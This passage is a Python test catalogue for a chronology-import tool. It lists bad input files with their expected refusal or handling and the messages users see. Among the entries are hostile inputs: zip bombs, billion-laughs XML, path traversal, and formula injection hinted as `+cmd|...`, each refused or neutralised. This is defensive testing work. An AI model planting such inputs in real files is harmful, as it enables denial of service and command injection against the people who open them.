    """A maker: the file written by ``plain``, saved with PASSWORD (as Excel and Word do)."""

    def make(folder: Path) -> Path:
        from msoffcrypto.format.ooxml import OOXMLFile

        folder.mkdir(parents=True, exist_ok=True)
        source = plain(folder / f"plain-{name}")
        out = io.BytesIO()
        OOXMLFile(io.BytesIO(source.read_bytes())).encrypt(PASSWORD, out)
        source.unlink()
        (folder / name).write_bytes(out.getvalue())
        return case_file(folder, [(name, "Police")])

    return make


def make_legacy_doc(folder: Path) -> Path:
    """An OLE2 compound file with a WordDocument stream, as Word 97-2003 saves a .doc."""
    folder.mkdir(parents=True, exist_ok=True)
    ole = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\x00" * 504
        + "WordDocument".encode("utf-16-le")
        + b"\x00" * 64
    )
    (folder / "police.doc").write_bytes(ole)
    return case_file(folder, [("police.doc", "Police")])


# ---------------------------------------------------------------------------------------- catalogue

ENTRIES: list[Entry] = [
    Entry("empty", "Empty file", one_file("gp.csv", b""), Refused("the file is empty", ("gp.csv",)),
          "`gp.csv: the file is empty; ask the agency for its chronology again`"),
    Entry("blank", "Only blank lines and spaces", one_file("gp.csv", "\r\n  \r\n\t\r\n"),
          Refused("the file is empty", ("gp.csv",)), "the file is empty (as above)"),
    Entry("header_only", "Header row only", one_file("gp.csv", "Date,Details\r\n"),
          Refused("no rows below the header", ("gp.csv", "row 1")), "`gp.csv, row 1: no rows below the header`"),
    Entry("no_date_column", "No date column", one_file("gp.csv", "Type,Details\nVisit,Seen\nCall,Mother\n"),
          Refused("no date column found", ("gp.csv",)),
          "no date column found, the first cells seen, and how to name it in case.toml"),
    Entry("configured_column_missing", "`[sources.columns]` names a column the file lacks",
          one_file("gp.csv", SIMPLE_CSV, extra='[sources.columns]\ndate = "When"\n'),
          Refused("column 'When' named in .* is not in the header", ("gp.csv", "row 1", "column 'When'")),
          "the column, the header row and the columns seen"),
    Entry("header_row_too_far", "`header_row` below the end of the file",
          one_file("gp.csv", SIMPLE_CSV, extra="header_row = 50\n"),
          Refused("header_row 50 is below the last row", ("gp.csv",)), "the header_row asked for and the last row there is"),
    Entry("sheet_misspelt", "`sheet` names no sheet of the workbook",
          xlsx_maker("police.xlsx", _simple_xlsx, extra='sheet = "Chronolgy"\n'),
          Refused("no sheet named 'Chronolgy'; sheets: 'Chronology'", ("police.xlsx",)), "the sheet asked for and the sheets there are"),
    Entry("every_date_invalid", "Every date invalid (31/02/2020, TBC, 00/00/0000...)",
          one_file("gp.csv", "Date,Details\n31/02/2020,a\nTBC,b\n00/00/0000,c\n32/13/2019,d\nyesterday,e\n"),
          Read(5, 1, 4, reason=r"\(column 'Date'\)$", warning="cannot exist as written", check=check_invalid),
          "31/02/2020 kept, dated by its month and flagged; every other row kept as rejected with the parser's "
          "reason and the column",
          merge=True),
    Entry("month_first", "Month-first (US) dates in a day-first file",
          one_file("gp.csv", "Date,Details\n04/13/2019,a\n04/02/2019,b\n12/25/2019,c\n"),
          Read(3, 1, 2, reason="impossible date", warning="looks month-first"),
          "a warning that the column looks month-first; impossible days rejected, never guessed"),
    Entry("mixed_formats", "Mixed date formats in one column (ISO, 6 Apr 2019, serials, w/c, terms...)",
          make_mixed, Read(11, 10, 1, reason="not a date", check=check_mixed),
          "each read with its precision (day, week, month, term); free text rejected"),
    Entry("date_1904", "Excel 1904 date system (date cells and plain serial numbers)",
          make_1904, Read(2, 2, check=check_1904), "the right dates (a plain serial number counted from 1904)"),
    Entry("formulas", "Formulas: with cached values, and saved without one", make_formulas,
          Read(2, 1, 1, reason="a date and nothing else", check=check_formulas),
          "each formula's saved value; a row whose only text is an unsaved formula rejected"),
    Entry("error_cells", "Excel error cells (#REF! as a date, #N/A as the text)", make_error_cells,
          Read(4, 2, 2, reason="not a date: '#REF!'", check=check_error_cells),
          "each error kept as its text (the reader gives them as empty); a #REF! date rejected with its reason"),
    Entry("merged_cells", "Merged cells (title, dates spanning rows, text across columns)", make_merged,
          Read(4, 4, check=check_merged), "each row of a merged date range dated, reason \"date from merged cell\""),
    Entry("hidden_sheet", "A hidden sheet beside the chronology", make_hidden,
          Read(2, 2, warning="hidden sheet 'Old' skipped"), "a warning that the hidden sheet was skipped"),
    Entry("only_hidden_sheet", "The chronology only on a hidden sheet", make_only_hidden,
          Refused("the hidden sheet 'Chronology' does", ("police.xlsx",)), "the hidden sheet named, and how to read it"),
    Entry("password", "Password-protected workbook, no password given", make_encrypted,
          Refused("password-protected", ("police.xlsx",)), "refused before any reader; set CHRONOLOGY_PASSWORD or run in a terminal",
          no_reader=True),
    Entry("word_template", "Word template: preamble, chronology split over two pages (header repeated), glossary",
          word_maker([[["Review", "Child H"], ["Author", "DS Example"]], WORD_ROWS, [WORD_ROWS[0], ["03/02/2019", "Visit", "None"]],
                      [["Term", "Meaning"], ["PPN", "Public protection notice"]]], continued=(2,)),
          Read(3, 3, warning="2 other table.s. not read"),
          "the chronology table read as one (the repeated header not a row); the other tables counted in a warning"),
    Entry("word_no_table", "A Word document with no table", word_maker([]),
          Refused("the document holds no table", ("police.docx",)), "the document holds no table; put the chronology in one table"),
    Entry("word_no_date_column", "A Word table without a date column",
          word_maker([[["Type", "Details"], ["Visit", "Seen"]]]),
          Refused("no date column found", ("police.docx", "sheet 'table 1'")),
          "no date column found, naming the table and the first cells seen"),
    Entry("word_nested_table", "A table nested in a Word table's cell", make_word_nested,
          Read(2, 2, warning="row 2, column 3: a table nested in the cell"), "its text kept in the cell, a warning naming row and column"),
    Entry("word_laughs", "Billion laughs in a Word document's XML", make_word_laughs,
          Refused("XML entity declaration in word/document.xml", ("police.docx",)),
          "refused by the same guards as a workbook, before python-docx parses it", no_reader=True),
    Entry("legacy_doc", "A legacy Word 97-2003 .doc", make_legacy_doc,
          Refused(r"Word 97-2003 document \(\.doc\).*save it as \.docx", ("police.doc",)),
          "refused; open it in Word and save it as .docx"),
    Entry("encrypted_no_password", "A password-protected .docx, no password given",
          encrypted_maker("police.docx", lambda p: word_doc(p, [WORD_ROWS])),
          Refused("password-protected and no password was given", ("police.docx",)),
          "refused; set CHRONOLOGY_PASSWORD for the run (never stored) or run in a terminal to be asked"),
    Entry("encrypted_wrong_password", "A password-protected .xlsx, the wrong password given",
          encrypted_maker("police.xlsx", _simple_xlsx),
          Refused(r"the password given \(CHRONOLOGY_PASSWORD\) does not open it", ("police.xlsx",)),
          "refused; check the password with the agency", env=(("CHRONOLOGY_PASSWORD", "wrong"),)),
    Entry("encrypted_with_password", "A password-protected .xlsx, its password given in CHRONOLOGY_PASSWORD",
          encrypted_maker("police.xlsx", _simple_xlsx), Read(2, 2),
          "decrypted in memory and read; the password written nowhere", merge=True,
          env=(("CHRONOLOGY_PASSWORD", PASSWORD),)),
    Entry("ole2_not_workbook", "An old-format (.xls) file that is not a workbook", make_ole2_not_workbook,
          Refused("cannot be read", ("police.xls",)), "the workbook cannot be read; save it again or send CSV"),
    Entry("corrupt_zip", "Corrupt zip named .xlsx (truncated)", make_corrupt_zip,
          Refused("corrupt", ("police.xlsx",)), "the file is corrupt (a damaged zip archive); open it in Excel or Word and save it again",
          no_reader=True),
    Entry("zip_not_workbook", "A zip archive holding no spreadsheet, named .xlsx", make_zip_without_sheet,
          Refused("holds no spreadsheet", ("police.xlsx",)), "a zip archive that holds no spreadsheet",
          no_reader=True),
    Entry("csv_named_xlsx", "An .xlsx that is really CSV", make_csv_named_xlsx,
          Read(2, 2, warning="really CSV"), "read as CSV, with a warning"),
    Entry("xlsx_named_csv", "A .csv that is really a workbook", make_xlsx_named_csv,
          Read(2, 2, warning="really XLSX"), "read as a workbook, with a warning"),
    Entry("binary_csv", "Binary garbage named .csv", make_garbage,
          Refused("binary data", ("gp.csv",)), "not a text table: the file holds binary data"),
    Entry("pdf_csv", "A PDF named .csv", one_file("gp.csv", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"),
          Refused("the file is a PDF document", ("gp.csv",)), "not a chronology table: the file is a PDF"),
    Entry("nul_bytes", "NUL bytes padding the fields",
          one_file("gp.csv", b"Date\x00,Details\x00\n01/02/2019\x00\x00,Seen\x00\n02/02/2019,Call\x00\x00\n"),
          Read(2, 2, warning=r"removed 7 NUL byte\(s\), the first on line 1"), "the NULs removed, with a warning giving their count and first line"),
    Entry("cp1252", "Windows-1252 text (£, é, curly quotes) read as UTF-8",
          one_file("gp.csv", "Date,Details\n01/02/2019,Paid £50 – Zoë said “fine”\n".encode("cp1252")),
          Read(1, 1, check=lambda ev: _eq(ev["description"][0], "Paid £50 – Zoë said “fine”")),
          "the text as written (decoded as Windows-1252)"),
    Entry("mixed_encodings", "UTF-8 and Windows-1252 lines in one file (two exports pasted together)",
          one_file("gp.csv", "Date,Details\n01/02/2019,Zoë seen\n".encode() + "02/02/2019,Zoë paid £5\n".encode("cp1252")),
          Read(2, 2, warning="mixed encodings: 1 line.* line 3", check=lambda ev: _eq(
              ev["description"].tolist(), ["Zoë seen", "Zoë paid £5"])),
          "each line decoded as written, with a warning naming the first line that is not UTF-8"),
    Entry("utf16", "UTF-16 tab-separated export", make_utf16,
          Read(1, 1, check=lambda ev: _eq(ev["description"][0], "Zoë seen")), "the text as written"),
    Entry("unclosed_quote", "A quote opened and never closed (it would swallow the rest of the file)",
          one_file("gp.csv", 'Date,Details\n01/02/2019,"Said ""no\n02/02/2019,Visit\n03/02/2019,Call\n'),
          Refused("never closed", ("gp.csv", "row 2", "column 'B'")), "refused, naming the row and column where the quote opens"),
    Entry("padding_rows", "A million empty rows of commas after the table (an export's padding)",
          one_file("gp.csv", SIMPLE_CSV + ",,,\r\n" * 1_000_000), Read(2, 2), "read at once; the padding ignored"),
    Entry("duplicate_columns", "Duplicate column names", make_duplicates, Read(1, 1, check=check_duplicates),
          "every cell kept; repeats named \"Details (2)\" in raw"),
    Entry("ten_thousand_columns", "10,000 columns", make_wide, Read(3, 3, check=check_wide),
          "read; all 10,000 cells kept in raw"),
    Entry("megabyte_cell", "A 1 MB cell", make_big_cell, Read(2, 2, check=check_big_cell), "read whole, kept verbatim"),
    Entry("rows_200k", "200,000 rows in one sheet (one in a thousand dated 31/02)", make_200k,
          Read(ROWS_200K, ROWS_200K, 0, warning="200 date\\(s\\) .* cannot exist as written", check=check_200k),
          "read in seconds; the 200 impossible dates kept, dated by their month and flagged", slow=True),
    Entry("emoji_rtl", "Emoji and right-to-left text (Hebrew, Arabic, U+202E override)",
          one_file("gp.csv", f'Date,Details,Worker 👩‍⚕️\n01/02/2019,"{EMOJI_TEXT}",HV\n02/02/2019,Visit,د. سارة\n'),
          Read(2, 2, check=check_emoji), "kept verbatim", merge=True),
    Entry("clock_change", "Times on the clock-change days (01:30 on 31/03/2019 and 27/10/2019)", make_clock,
          Read(3, 3, check=check_clock), "01:30 that never happened read as 02:30 BST, the doubled 01:30 as BST, each with a note"),
    Entry("dates_1900_2200", "Dates in 1900 and 2200",
          one_file("gp.csv", "Date,Details\n01/01/1900,a\n31/12/2200,b\n1900,c\n2200,d\n"),
          Read(4, 0, 4, reason="outside 1950-2100"), "rejected: outside 1950-2100"),
    Entry("same_file_twice", "The same file listed twice in case.toml", make_same_file_twice,
          Refused("listed twice in case.toml", ("./gp.csv",)), "listed twice; remove one"),
    Entry("same_agency", "Two sources with the same agency", make_same_agency,
          Read(4, 4, warning="2 sources have the agency 'Police'"), "a warning; read as one agency", merge=True),
    Entry("same_content", "Two files with the same content under different agencies", make_same_content,
          Read(4, 4, warning="hv.csv has the same content as gp.csv"), "a warning naming both files"),
    Entry("key_typo", "A typo in a case.toml key (`agncy`)", make_key_typo,
          Refused("unknown key 'agncy' in .*did you mean 'agency'\\?", ("case.toml",)),
          "the key named and the closest valid one suggested"),
    Entry("table_typo", "A typo in a case.toml table (`[[source]]`)", make_table_typo,
          Refused("unknown key 'source' in .*did you mean 'sources'\\?", ("case.toml",)),
          "the table named and the closest valid one suggested"),
    Entry("bad_toml", "A case.toml that is not valid TOML", make_bad_toml,
          Refused("not valid TOML", ("case.toml",)), "the TOML error with its line"),
    Entry("path_outside", "A source path outside the case folder (`../`)", make_outside,
          Refused("outside the case folder", ("case.toml",)), "refused; copy the file into the case folder"),
    Entry("symlink_outside", "A symlink in the case folder to a file outside it", make_symlink_outside,
          Refused("outside the case folder", ("case.toml",)), "refused, as a path outside"),
    Entry("folder_source", "A source path that is a folder", make_folder_source,
          Refused("is a folder, not a file", ("gp.csv",)), "is a folder, not a file"),
    Entry("fifo_source", "A source that is a named pipe (reading would wait forever)", make_fifo,
          Refused("not a regular file", ("gp.csv",)), "not a regular file; copy the file itself"),
    Entry("missing_file", "A missing file", make_missing, Refused("file not found", ("gp.csv",)),
          "file not found; check 'path' in case.toml"),
    Entry("zip_bomb", f"Zip bomb: a workbook declaring {BOMB_MB} MB in a few hundred KB", make_zip_bomb,
          Refused("zip bomb", ("police.xlsx",)), "refused from the archive's directory, before inflating",
          no_reader=True),
    Entry("understated_bomb", "Zip bomb whose directory understates a part's size (1 KB said, 64 MB inside)",
          make_understated_bomb, Refused("corrupt", ("police.xlsx",)),
          "refused as corrupt: inflated in 1 MB blocks, the part fails its size and CRC check", no_reader=True),
    Entry("billion_laughs", "Billion laughs: a sheet's XML declaring nested entities", make_laughs,
          Refused("XML entity declaration in xl/worksheets/sheet1.xml", ("police.xlsx",)),
          "refused before any reader parses it", no_reader=True),
    Entry("laughs_after_comment", "The same, the entities hidden after a 20 KB comment", make_laughs_hidden,
          Refused("XML entity declaration", ("police.xlsx",)), "refused likewise", no_reader=True),
    Entry("far_corner", "A stray cell at XFD1048576 (the reader would allocate 17 billion cells)",
          make_far_corner, Refused("as far as XFD1048576", ("police.xlsx", "sheet 'Chronology'")),
          "refused, naming the sheet and the far cell", no_reader=True),
    Entry("far_column_z", "A stray cell at Z1048576 (27 million cells within columns A to Z)", make_far_z,
          Refused("as far as Z1048576, a grid of 27,262,976 cells", ("police.xlsx", "sheet 'Chronology'")),
          "refused likewise", no_reader=True),
    Entry("far_corners", "Two sheets each reaching Z960000 (under the limit alone, 50 million cells together)",
          make_far_corners, Refused("the sheets together span 49,920,000 cells", ("police.xlsx",)),
          "refused before the reader reads every sheet", no_reader=True),
    Entry("stray_row", "A stray note in the sheet's last row (1,048,576), far below the table", make_stray_row,
          Read(3, 2, 0, check=check_stray_row), "kept, as a continuation of the last entry (its row named)"),
    Entry("string_count", "A shared-string table declaring 4 billion strings in 150 bytes", make_string_count,
          Refused("declares 4,294,967,295 strings in", ("police.xlsx",)),
          "refused before the reader reserves 100 GB for them", no_reader=True),
    Entry("ods_padding", "OpenDocument sheet padded to its last row with empty repeated cells (as LibreOffice saves)",
          make_ods_padded, Read(2, 2), "read; the padding ignored"),
    Entry("ods_repeat_bomb", "OpenDocument cell holding a value repeated 300 columns x 100,000 rows",
          make_ods_bomb, Refused("repeated cells holding values span a grid of 30,000,900 cells", ("school.ods",)),
          "refused before the reader would materialise 30 million cells", no_reader=True),
    Entry("formula_text", "Cells that are spreadsheet formulas (`=HYPERLINK(...)`, `+cmd|...`)",
          make_formula_text, Read(3, 3, check=check_formula_text),
          "kept verbatim; neutralised in every export", merge=True, after_merge=check_workbook_has_no_formulas),
    Entry("html_text", "HTML and script in a cell", make_html_text, Read(1, 1),
          "kept verbatim; shown as text in timeline.html, never run", merge=True, after_merge=check_html),
]  # fmt: skip


def _eq(got: object, want: object) -> None:
    assert got == want, (got, want)


def markdown_table() -> str:
    """The README's "Bad input" table: input, outcome, what the user sees."""
    lines = ["| Input | Outcome | What the user sees |", "|---|---|---|"]
    for e in ENTRIES:
        cells = [e.input, e.expect.outcome, e.sees]
        lines.append("| " + " | ".join(c.replace("|", "\\|") for c in cells) + " |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    print(markdown_table(), end="")
